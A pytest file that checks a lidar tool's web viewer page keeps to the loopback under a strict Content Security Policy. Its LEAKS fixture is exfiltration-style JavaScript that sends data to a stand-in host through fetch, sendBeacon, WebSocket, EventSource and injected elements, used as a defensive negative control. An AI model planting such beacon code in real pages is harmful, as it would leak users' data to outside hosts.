"""The page of `view --web` and `live --out rerun:web`: what it shows, and that it stays here.

With Chromium all requests of the browser are listed; without it the tests of the headers and of
what is served remain.
"""

import os
import re
import socket
import subprocess
import time
from contextlib import contextmanager, suppress
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib.util import find_spec
from threading import Thread
from urllib.request import urlopen

import numpy as np
import pytest
from chromium import CHROMIUM, Browser
from commands import running
from typer.testing import CliRunner

from lidar_core.cli import app
from lidar_core.viz.rerun_feed import LiveFeed
from lidar_core.viz.rerun_page import HEADERS, POLICY, RerunPage

PATIENCE_S = 180
ORANGE = (255, 90, 25)  # of objects and their numbers
FOREIGN = "foreign.example"
HARMLESS = {"'none'", "'self'", "'wasm-unsafe-eval'", "'unsafe-inline'", "data:", "blob:"}
needs_chromium = pytest.mark.skipif(
    CHROMIUM is None, reason="no Chromium; on Debian: apt install chromium"
)
needs_rerun = pytest.mark.skipif(
    find_spec("rerun") is None and not os.environ.get("CI"), reason="rerun-sdk not installed"
)


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    folder = tmp_path_factory.mktemp("runs")
    for command in (
        ["simulate", "circles", "-o", folder / "a.npz", "--scans", 20],
        ["circles", folder / "a.npz", "-o", folder / "run"],
    ):
        assert CliRunner().invoke(app, list(map(str, command))).exit_code == 0
    return folder / "run"


@contextmanager
def served(*arguments):
    """A command in a process of its own; yields the address that it prints."""
    with running(*arguments, stderr=subprocess.STDOUT) as process:
        told = ""
        for line in process.stdout:
            told += line
            if found := re.search(r"http://127\.0\.0\.1:\d+", line):
                break
        assert found, told
        Thread(target=process.stdout.read, daemon=True).start()
        yield found[0]
        process.send_signal(2)
        with suppress(subprocess.TimeoutExpired):
            process.wait(20)


# Without a browser


def test_the_policy_lets_nothing_through_but_the_server_of_the_page():
    """A host, a scheme with hosts, or a star in any directive would."""
    directives = {}
    for text in POLICY.split("; "):
        name, *sources = text.split()
        assert name not in directives
        directives[name] = sources
        assert set(sources) <= HARMLESS, text
    assert directives["default-src"] == ["'none'"]
    assert directives["connect-src"] == ["'self'"]
    assert "'unsafe-inline'" not in directives["script-src"]
    # What `default-src` does not stand for.
    for name in ("base-uri", "form-action", "frame-ancestors"):
        assert directives[name] == ["'none'"]


class References(HTMLParser):
    """Whatever a page refers to, and its hints to connect beforehand."""

    def __init__(self):
        super().__init__()
        self.found, self.links, self.inline = [], [], []
        self._tag = ""

    def handle_starttag(self, tag, attrs):
        told = dict(attrs)
        self._tag = tag
        self.found += [
            told[name] for name in ("src", "href", "action", "data", "srcset") if name in told
        ]
        if tag == "link":
            self.links.append(told.get("rel"))
        assert told.get("http-equiv") is None

    def handle_data(self, data):
        if self._tag == "script" and data.strip():
            self.inline.append(data)


@pytest.fixture(scope="module")
def page():
    served_page = RerunPage(lambda: iter([b"a recording"]), port=0)
    yield served_page.address
    served_page.close()


@needs_rerun
def test_every_answer_carries_the_policy_and_no_foreign_reference(page):
    for name in ("/", "/page.js", "/re_viewer.js", "/re_viewer_bg.wasm", "/recording.rrd"):
        with urlopen(page + name, timeout=60) as answer:
            body = answer.read()
            for header, value in HEADERS.items():
                assert answer.headers.get_all(header) == [value]
        if name in ("/", "/page.js"):
            assert not re.search(rb"(https?|wss?):|//[a-z]", re.sub(rb"// [^\n]*", b"", body))
        if name == "/":
            looked = References()
            looked.feed(body.decode())
            assert looked.found == ["data:,", "re_viewer.js", "page.js"]
            assert looked.links == ["icon"]  # no preconnect, which no policy forbids
            assert looked.inline == []
        if name == "/re_viewer_bg.wasm":
            assert body[:4] == b"\0asm"
            assert len(body) > 10**6
        if name == "/re_viewer.js":
            assert b"wasm_bindgen" in body
            assert b"iframe" not in body


@needs_rerun
def test_only_the_page_listens_and_rerun_has_ended(page):
    """The program that the viewer's files are taken from is gone."""
    from lidar_core.viz.rerun_page import viewer_files

    assert viewer_files() is viewer_files()
    with pytest.raises(OSError, match="404"):
        urlopen(f"{page}/other", timeout=10)


@needs_rerun
def test_reruns_program_asks_nobody_but_a_proxy_that_is_not_there(tmp_path, monkeypatch):
    """It wants to know its newest release; here somebody listens in the proxy's place."""
    import rerun

    from lidar_core.viz import rerun_process

    log = tmp_path / "a.rrd"
    stream = rerun.RecordingStream("test")
    stream.save(str(log))
    stream.log("a", rerun.Points3D([[0, 0, 0]]))
    stream.disconnect()
    with socket.create_server(("127.0.0.1", 0)) as proxy:
        proxy.settimeout(PATIENCE_S)
        monkeypatch.setattr(rerun_process, "NOWHERE", f"http://127.0.0.1:{proxy.getsockname()[1]}")
        arguments = [str(log), "--port", "auto", "--headless"]
        with rerun_process.rerun_process(arguments, quiet=True):
            asked, _ = proxy.accept()
            with asked, asked.makefile("rb") as read:
                assert read.readline().startswith(b"CONNECT api.github.com:443")


def test_pages_that_are_opened_later_get_the_beginning_and_what_is_kept():
    feed = LiveFeed(b"begin", max_bytes=10)
    early = feed.blocks()
    assert next(early) == b"begin"
    for number in range(5):
        feed.add(bytes([number]) * 4)
    late = feed.blocks()
    assert [next(late) for _ in range(3)] == [b"begin", b"\3" * 4, b"\4" * 4]
    assert next(early) == b"\3" * 4  # slower than the stream: it misses what is gone
    feed.add(b"x" * 100)  # larger than all that may be kept
    feed.end()
    assert list(late) == [b"x" * 100]
    assert list(early) == [b"x" * 100]


# With a browser


def objects_shown(browser):
    """Wait until the page shows objects in their colour; the number of such pixels."""
    until, shown = time.monotonic() + PATIENCE_S, 0
    while shown < 100 and time.monotonic() < until:
        time.sleep(2)
        shown = int((np.abs(browser.picture() - ORANGE).max(axis=2) < 30).sum())
    return shown


@needs_chromium
@needs_rerun
def test_view_web_shows_objects_and_asks_nobody_beyond_the_loopback(run, tmp_path):
    with served("view", run, "--web", "--port", 0) as address, Browser(tmp_path) as browser:
        browser.open(address)
        assert objects_shown(browser) >= 100
        time.sleep(5)  # usage data would be sent in batches
        assert browser.hosts() == {"127.0.0.1"}
        assert {f"{address}/recording.rrd", f"{address}/re_viewer_bg.wasm"} <= browser.addresses()


@pytest.mark.nightly
@needs_chromium
@needs_rerun
def test_live_web_shows_objects_and_asks_nobody_beyond_the_loopback(run, tmp_path):
    played = ["--replay", run.parent / "a.npz", "--rate", "0.02", "--out", "rerun:web:0"]
    with served("live", *played) as address, Browser(tmp_path) as browser:
        browser.open(address)
        assert objects_shown(browser) >= 100
        time.sleep(5)
        assert browser.hosts() == {"127.0.0.1"}


# Frames are left out: Chromium connects beforehand even for one that the policy then refuses. The
# viewer makes none.
LEAKS = f"""
const place = "{FOREIGN}/leak";
fetch("https://" + place, {{method: "POST", mode: "no-cors", body: "x"}}).catch(() => 0);
navigator.sendBeacon("https://" + place, "x");
try {{ new WebSocket("wss://" + place); }} catch {{}}
try {{ new EventSource("https://" + place); }} catch {{}}
for (const [kind, name] of [["img", "src"], ["script", "src"]]) {{
  const made = document.createElement(kind);
  made[name] = "https://" + place;
  document.body.append(made);
}}
const sheet = document.createElement("link");
sheet.rel = "stylesheet";
sheet.href = "https://" + place;
document.head.append(sheet);
document.body.dataset.done = "yes";
"""


@contextmanager
def leaking_page(headers):
    """A page that tries every way out, with these headers."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            is_page = self.path == "/"
            body = b'<body><script src="leaks.js"></script>' if is_page else LEAKS.encode()
            self.send_response(200)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Type", "text/html" if is_page else "text/javascript")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


@needs_chromium
@pytest.mark.parametrize("headers", [{}, HEADERS], ids=["without the policy", "with the policy"])
def test_a_page_that_tries_every_way_out_is_listed_or_held(headers, tmp_path):
    """The negative control: the list catches foreign requests, and the policy prevents them."""
    with leaking_page(headers) as address, Browser(tmp_path) as browser:
        browser.open(address)
        until = time.monotonic() + PATIENCE_S
        while browser.value("document.body.dataset.done") != "yes":
            assert time.monotonic() < until
            time.sleep(0.2)
        time.sleep(3)
        asked = {item for item in browser.addresses() if FOREIGN in item}
    schemes = {item.partition(":")[0] for item in asked}
    assert schemes == (set() if headers else {"https", "wss"}), asked
